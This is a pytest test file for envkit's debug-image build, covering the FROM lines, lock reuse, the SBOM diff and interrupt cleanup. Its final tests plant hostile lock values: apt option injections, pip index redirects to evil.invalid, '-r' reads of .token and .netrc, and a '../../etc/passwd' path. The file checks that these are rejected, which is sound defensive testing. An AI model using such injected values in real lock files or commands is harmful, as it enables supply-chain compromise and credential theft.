"""``envkit build NAME --debug-image`` on the fake engine: FROM the runtime ID, pins, SBOM, tags, CLI."""

from __future__ import annotations

import contextlib
import copy
import hashlib
import io
import json
import re
import tarfile
from collections.abc import Sequence
from pathlib import Path

import pytest

from envkit._proc import ProcResult
from envkit.build.builder import Builder, BuildResult
from envkit.build.debug import DebugBuilder, DebugResult
from envkit.build.image_list import list_images
from envkit.catalog import load_catalog
from envkit.cli import main
from envkit.engine.protocol import RunResult
from envkit.engine.testing import FakeEngine, FakeRun
from envkit.errors import LockError
from envkit.lock import PipPackage, PipRequest
from envkit.lock.debug_tools import DEBUG_LOCK, read_debug_lock
from envkit.lock.testing import FakePipResolver
from envkit.render.debug import RUNTIME_LABEL, VARIANT_LABEL
from envkit.sbom.cyclonedx import SBOM_LABEL, SBOM_NAME, SBOM_PATH
from envkit.spec.load import LoadedSpec
from tests.unit.build.conftest import FakePip

DATA = Path(__file__).resolve().parents[2] / "data" / "debug"
SIMULATED = (DATA / "apt-simulate-bookworm.txt").read_text()
WHEELS = {"jupyterlab": "4.4.0", "ipykernel": "6.29.5", "py-spy": "0.4.0", "tornado": "6.4.2"}


class ToolResolver(FakePipResolver):
    """uv for the debug wheels: a fixed set, hashed by name."""

    def resolve(self, request: PipRequest) -> tuple[PipPackage, ...]:
        self.requests.append(request)
        return tuple(
            PipPackage(
                n, v, f"https://example.invalid/{n}-{v}.whl", (hashlib.sha256(n.encode()).hexdigest(),)
            )
            for n, v in sorted(WHEELS.items())
        )


class HostTools(FakePip):
    """pip download (the parent's), apt-get update/download and apt-cache show with consistent bytes."""

    def __call__(self, argv: Sequence[str], *, check: bool = True, **kw: object) -> ProcResult:
        args = list(argv)
        if args[0] == "apt-get" and args[-1] == "update":
            self.calls.append(args)
            return ProcResult(tuple(args), 0, "", "")
        if args[0] == "apt-cache":
            self.calls.append(args)
            pins = args[args.index("--") + 1 :]  # every pin after `--`: never an option
            text = "\n".join(
                f"Package: {p.split('=')[0]}\nVersion: {p.split('=')[1]}\nArchitecture: amd64\n"
                f"Size: {len(p.encode())}\nSHA256: {hashlib.sha256(p.encode()).hexdigest()}\n"
                f"Filename: pool/main/x/{p.split('=')[0]}_{p.split('=')[1].split(':')[-1]}_amd64.deb\n"
                for p in pins
            )
            return ProcResult(tuple(args), 0, text, "")
        if args[0] == "apt-get" and "download" in args:
            self.calls.append(args)
            for pin in args[args.index("--") + 1 :]:
                Path(str(kw["cwd"]), pin.replace(":", "%3a").replace("=", "_") + ".deb").write_bytes(
                    pin.encode()
                )
            return ProcResult(tuple(args), 0, "", "")
        done = super().__call__(argv, check=check)
        if "download" in args and "--dest" in args:  # wheel names use underscores (py_spy-0.4.0-...)
            for path in Path(args[args.index("--dest") + 1]).glob("*.whl"):
                name, version = path.name.removesuffix("-py3-none-any.whl").rsplit("-", 1)
                path.rename(path.with_name(f"{name.replace('-', '_')}-{version}-py3-none-any.whl"))
        return done


def _runs(sbom: dict[str, str]) -> object:
    def answer(run: FakeRun) -> RunResult:
        command = " ".join(run.argv)
        if run.argv[0] == "cat" and run.argv[1] == "/etc/os-release":
            return RunResult(0, "ID=debian\nVERSION_CODENAME=bookworm\n", "")
        if "readlink" in command:
            return RunResult(0, "3.11 /usr/bin/python3.11 3.11.2-6+deb12u8\n", "")
        if run.argv[0] == "apt-get":
            return RunResult(0, SIMULATED, "")
        if run.argv == ("cat", SBOM_PATH):
            return RunResult(0, sbom["text"], "")
        return RunResult(0, "", "")

    return answer


@pytest.fixture
def debug_builder(engine: FakeEngine, root: Path, resolver: FakePipResolver) -> DebugBuilder:
    from tests.unit.build.conftest import fake_locker

    tools = HostTools()
    builder = Builder(engine, root, locker=fake_locker(resolver), pip_runner=tools)
    return DebugBuilder(builder, ToolResolver(), run=tools)


def _build(engine: FakeEngine, builder: DebugBuilder, loaded: LoadedSpec) -> tuple[BuildResult, DebugResult]:
    from envkit.build.builder import BuildOptions

    plan = builder.builder.prepare(loaded, BuildOptions(offline=True))
    assert plan.sbom is not None
    engine.handler = _runs({"text": plan.sbom})  # type: ignore[assignment]
    return builder.build(loaded, BuildOptions(offline=True))


def _dockerfile(context: bytes) -> str:
    with tarfile.open(fileobj=io.BytesIO(context)) as tar:
        member = tar.extractfile("Dockerfile")
        assert member is not None
        return member.read().decode()


def _member(context: bytes, name: str) -> bytes:
    with tarfile.open(fileobj=io.BytesIO(context)) as tar:
        member = tar.extractfile(name)
        assert member is not None
        return member.read()


def test_the_debug_image_is_built_from_the_runtime_images_id(
    engine: FakeEngine, debug_builder: DebugBuilder, loaded: LoadedSpec, root: Path
) -> None:
    runtime, debug = _build(engine, debug_builder, loaded)
    assert len(engine.builds) == 2  # the runtime image, then the debug image: the env is never rebuilt
    build = engine.builds[1]
    assert not build.network  # offline: every file came from the host
    text = _dockerfile(build.context)
    froms = [line for line in text.splitlines() if line.startswith("FROM ")]
    assert froms == [f"FROM {runtime.image_id} AS tools", f"FROM {runtime.image_id}"]
    final = text.split(f"\nFROM {runtime.image_id}\n")[1]
    assert "RUN " not in final and "COPY --from=tools /envkit-delta/ /" in final
    assert build.tag == debug.tag and debug.tag.endswith("-debug")
    assert build.labels[VARIANT_LABEL] == "debug"
    assert build.labels[RUNTIME_LABEL] == runtime.image_id
    assert ("envkit/tiny:debug" in (t for _, t in engine.tagged)) and debug.latest == "envkit/tiny:debug"
    assert not any(t.endswith(":latest") for src, t in engine.tagged if src == debug.tag)
    assert engine.pruned.count("tiny") >= 2  # the tools stage is removed too
    assert any(n.startswith("nsys: not added: a CPU environment") for n in debug.notes)
    debs = _member(build.context, "debs.txt").decode().splitlines()
    assert len(debs) == 38 and "gdb 13.1-3" in debs
    requirements = _member(build.context, "debug-requirements.lock").decode()
    assert "py-spy==0.4.0 \\\n    --hash=sha256:" in requirements


def test_the_lock_is_written_once_and_reused_for_the_same_runtime_image(
    engine: FakeEngine, debug_builder: DebugBuilder, loaded: LoadedSpec, root: Path
) -> None:
    _, first = _build(engine, debug_builder, loaded)
    lock = read_debug_lock(root / "images" / "tiny" / DEBUG_LOCK)
    assert lock is not None and len(lock.debs) == 38 and {w.name for w in lock.wheels} == set(WHEELS)
    assert first.lock == "locked"
    simulations = sum(1 for r in engine.runs if r.argv[0] == "apt-get")
    _, second = _build(engine, debug_builder, loaded)
    assert second.lock == "fresh" and second.status == "up-to-date"
    assert sum(1 for r in engine.runs if r.argv[0] == "apt-get") == simulations  # not resolved again
    assert second.tag == first.tag


def test_generated_text_names_the_debug_image_flag_never_bare_debug(
    engine: FakeEngine, debug_builder: DebugBuilder, loaded: LoadedSpec, root: Path
) -> None:
    """``--debug`` means tracebacks: what envkit generates for the debug image says ``--debug-image``."""
    _build(engine, debug_builder, loaded)
    with tarfile.open(fileobj=io.BytesIO(engine.builds[1].context)) as tar:
        files = [m for m in tar.getmembers() if m.isfile()]
        texts = {m.name: tar.extractfile(m).read() for m in files}  # type: ignore[union-attr]
    texts[DEBUG_LOCK] = (root / "images" / "tiny" / DEBUG_LOCK).read_bytes()
    said = [name for name, data in texts.items() if b"--debug-image" in data]
    assert said == ["Dockerfile"]  # its header: "regenerate with `envkit build tiny --debug-image`"
    bare = [name for name, data in texts.items() if re.search(rb"--debug(?![-\w])", data)]
    assert bare == []


def test_an_interrupted_debug_build_leaves_no_tag_and_keeps_its_log(
    engine: FakeEngine, debug_builder: DebugBuilder, loaded: LoadedSpec, root: Path
) -> None:
    """The debug image streams through the runtime's build loop (``envkit.build.stream``): drop-tag on
    interrupt (the loop the debug image had of its own lacked it), log kept, builder stages pruned."""
    from envkit.build.builder import BuildOptions
    from envkit.engine.protocol import BuildEvent

    plan = debug_builder.builder.prepare(loaded, BuildOptions(offline=True))
    assert plan.sbom is not None
    engine.handler = _runs({"text": plan.sbom})  # type: ignore[assignment]

    def interrupt_the_debug_build(event: BuildEvent) -> None:
        if event.step == "debug-lock":  # the runtime image is built: interrupt the next build
            engine.interrupt_build = True

    with pytest.raises(KeyboardInterrupt):
        debug_builder.build(loaded, BuildOptions(offline=True), interrupt_the_debug_build)
    debug_tag = engine.builds[1].tag
    assert debug_tag.endswith("-debug") and engine.inspect(debug_tag) is None
    assert engine.inspect(engine.builds[0].tag) is not None  # the runtime image stays
    assert engine.pruned.count("tiny") == 2  # after each build
    (log,) = (root / ".envkit" / "logs").glob("*-debug.log")
    last = log.read_text().splitlines()[-2:]
    assert last[0] == "# INTERRUPTED or engine error"
    assert re.fullmatch(r"# removed the builder-stage images: [1-9][0-9]* bytes", last[1])


def test_the_sbom_is_the_runtimes_plus_only_the_debug_tools(
    engine: FakeEngine, debug_builder: DebugBuilder, loaded: LoadedSpec, tmp_path: Path
) -> None:
    _build(engine, debug_builder, loaded)
    build = engine.builds[1]
    debug_sbom = json.loads(_member(build.context, SBOM_NAME))
    assert hashlib.sha256(_member(build.context, SBOM_NAME)).hexdigest() == build.labels[SBOM_LABEL]
    runtime_sbom = json.loads(_member(engine.builds[0].context, SBOM_NAME))
    runtime_refs = {c["bom-ref"] for c in runtime_sbom["components"]}
    added = [c for c in debug_sbom["components"] if c["bom-ref"] not in runtime_refs]
    assert {c["purl"].split("/")[0] for c in added} == {"pkg:deb", "pkg:pypi"}
    assert all({"name": "envkit:layer", "value": "debug"} in c["properties"] for c in added)
    assert any(c["purl"].startswith("pkg:deb/debian/gdb@13.1-3?arch=amd64") for c in added)
    base = next(c for c in debug_sbom["components"] if c["bom-ref"] == "base-image")
    assert base["version"].startswith("sha256:") and base["name"].startswith("envkit/tiny:")
    (tmp_path / "runtime.cdx.json").write_text(json.dumps(runtime_sbom))
    (tmp_path / "debug.cdx.json").write_text(json.dumps(debug_sbom))
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        code = main(["diff", str(tmp_path / "runtime.cdx.json"), str(tmp_path / "debug.cdx.json"), "--json"])
    findings = json.loads(out.getvalue())["result"]["findings"]
    assert code == 0  # additions are findings of severity info: no drift
    assert {(f["package"], f["kind"]) for f in findings} == {(n, "added") for n in WHEELS}


def test_images_lists_runtime_and_debug_side_by_side(
    engine: FakeEngine, debug_builder: DebugBuilder, loaded: LoadedSpec, root: Path
) -> None:
    runtime, debug = _build(engine, debug_builder, loaded)
    rows = list_images(engine, root, load_catalog())
    assert [(r.variant, r.latest) for r in rows] == [("runtime", True), ("debug", True)]
    assert rows[1].runtime_id == runtime.image_id and set(rows[1].tags) == {"envkit/tiny:debug", debug.tag}
    assert not rows[1].stale and rows[1].context_sha256 == debug.context_sha256


@pytest.mark.parametrize(
    "text",
    [
        "not json",
        "[]",
        '{"kind": "envkit-debug-lock", "schema": 2}',
        '{"kind": "other", "schema": 1}',
        '{"kind": "envkit-debug-lock", "schema": 1, "request": "x", "runtime_id": "y", "python": "3.11", '
        '"debian": {"suite": "bookworm", "packages": [{"name": "gdb", "version": "1", "arch": "amd64", '
        '"sha256": "'
        + "a" * 64
        + '", "size": 1, "filename": "../../etc/passwd.deb"}]}, "pip": {"packages": []}}',
        '{"kind": "envkit-debug-lock", "schema": 1, "request": "x", "runtime_id": "y", "python": "3.11", '
        '"debian": {"suite": "bookworm", "packages": [{"name": "gdb", "version": "1", "arch": "amd64", '
        '"sha256": "nothex", "size": 1, "filename": "gdb.deb"}]}, "pip": {"packages": []}}',
        '{"kind": "envkit-debug-lock", "schema": 1}',
        "[" * 10000,
    ],
)
def test_a_damaged_debug_lock_is_an_error_naming_the_file(tmp_path: Path, text: str) -> None:
    path = tmp_path / DEBUG_LOCK
    path.write_text(text)
    with pytest.raises(LockError, match=r"debug\.lock\.json is not a readable debug lock") as e:
        read_debug_lock(path)
    assert "resolves it again" in (e.value.hint or "")


class Recorder:
    """Every host command the debug build runs, with the text of any requirements file it reads."""

    def __init__(self, inner: HostTools) -> None:
        self.inner = inner
        self.words: list[str] = []

    def __call__(self, argv: Sequence[str], **kw: object) -> ProcResult:
        self.words += list(argv)
        if "-r" in argv:
            self.words += Path(argv[list(argv).index("-r") + 1]).read_text().splitlines()
        return self.inner(argv, **kw)  # type: ignore[arg-type]


PLANTED = [
    ("debian", "name", "-oDir::Bin::Methods=/repo/.git/hooks"),
    ("debian", "name", "-c/repo/apt.conf"),
    ("debian", "version", "-oAPT::Get::AllowUnauthenticated=1"),
    ("debian", "version", "1.0\n-c/repo/apt.conf"),
    ("pip", "name", "jupyterlab==4.4.0\n--index-url https://evil.invalid/simple\n-r /home/u/.token\nx"),
    ("pip", "name", "x\n--extra-index-url=https://evil.invalid/simple"),
    ("pip", "version", "4.4.0\n-r /home/u/.netrc"),
    ("pip", "version", "4.4.0 --index-url https://evil.invalid/simple"),
]


@pytest.mark.parametrize(("part", "key", "value"), PLANTED)
def test_a_planted_committed_lock_runs_no_host_command(
    engine: FakeEngine,
    debug_builder: DebugBuilder,
    loaded: LoadedSpec,
    root: Path,
    part: str,
    key: str,
    value: str,
) -> None:
    """The lock is reused because its request key is this runtime image's: its pins are read first."""
    _build(engine, debug_builder, loaded)
    path = root / "images" / "tiny" / DEBUG_LOCK
    data = json.loads(path.read_text())
    planted = copy.deepcopy(data[part]["packages"][0])
    planted[key] = value
    planted["sha256" if part == "debian" else "hashes"] = (
        "b" * 64 if part == "debian" else ["b" * 64]
    )  # a new file: not in any cache, so it would be fetched
    data[part]["packages"].append(planted)
    path.write_text(json.dumps(data))
    recorder = Recorder(debug_builder.run)  # type: ignore[arg-type]
    debug_builder.run = recorder
    with pytest.raises(LockError, match=rf"debug\.lock\.json is not a readable debug lock: {part}\.packages"):
        _build(engine, debug_builder, loaded)
    hostile = [line for line in value.splitlines() if line.startswith("-") or " -" in line]
    assert hostile
    assert not [w for w in recorder.words for h in hostile if h.split()[-1] in w]
